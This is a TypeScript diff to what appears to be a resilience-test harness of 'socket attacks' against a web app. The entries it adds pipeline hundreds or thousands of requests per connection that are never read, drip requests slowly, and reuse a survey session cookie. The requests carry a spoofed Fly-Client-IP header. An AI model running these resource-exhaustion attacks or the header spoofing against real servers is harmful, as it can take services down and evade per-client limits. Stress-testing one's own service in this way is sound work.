@@ -1,5 +1,6 @@
 import { setTimeout as wait } from "node:timers/promises";
 import type { Attack, Attacker } from "../attack.ts";
+import { fillLargest } from "./stored.ts";
 
 const THREE_MEGABYTES = Buffer.alloc(3_000_000, "a=%41&");
 
@@ -54,14 +55,41 @@ export const socketAttacks: readonly Attack[] = [
     row: null,
     about: "100 connections that ask for 50 pages each and read none",
     lanes: 100,
+    begin: async (attacker) => () => askUnread(attacker, "/portfolio?page=2", 50),
+  },
+  {
+    name: "unread-forms",
+    row: null,
+    about: "60 connections that ask for 2,000 blank forms each in one write and read none",
+    lanes: 60,
+    begin: async (attacker) => () => askUnread(attacker, "/contact", 2_000),
+  },
+  {
+    name: "unread-answers",
+    row: null,
+    about:
+      "fills a survey of its own as far as it goes; two more connections a second ask for its answers 90 times each, and read none",
+    lanes: 120,
+    begin: async (attacker) => {
+      const { cookie } = await fillLargest(attacker);
+      return async (lane, turn) => {
+        if (turn === 0) await wait(lane * 500);
+        await askUnread(attacker, "/survey/creator/answers", 90, `Cookie: ${cookie}\r\n`);
+      };
+    },
+  },
+  {
+    name: "dripping-readers",
+    row: null,
+    about: "200 connections that ask for a page that is rendered, one after the other, and read none",
+    lanes: 200,
     begin: async (attacker) => () =>
-      attacker.connect((socket) => {
+      attacker.connect(async (socket) => {
         socket.pause();
-        socket.write(
-          `GET /portfolio?page=2 HTTP/1.1\r\nHost: ${new URL(attacker.origin).host}\r\nFly-Client-IP: 203.0.113.66\r\n\r\n`.repeat(
-            50,
-          ),
-        );
+        while (socket.isOpen() && !attacker.isOver()) {
+          socket.write(get(attacker, "/portfolio?page=2"));
+          await wait(1_000);
+        }
       }),
   },
   {
@@ -72,6 +100,17 @@ export const socketAttacks: readonly Attack[] = [
     begin: async (attacker) => () => attacker.connect(() => undefined),
   },
 ];
+
+function askUnread(attacker: Attacker, path: string, times: number, more = ""): Promise<void> {
+  return attacker.connect((socket) => {
+    socket.pause();
+    socket.write(get(attacker, path, more).repeat(times));
+  });
+}
+
+function get({ origin }: Pick<Attacker, "origin">, path: string, more = ""): string {
+  return `GET ${path} HTTP/1.1\r\nHost: ${new URL(origin).host}\r\nFly-Client-IP: 203.0.113.66\r\n${more}\r\n`;
+}
 
 function stall(attacker: Attacker, path: string): Promise<void> {
   return attacker.connect((socket) => {
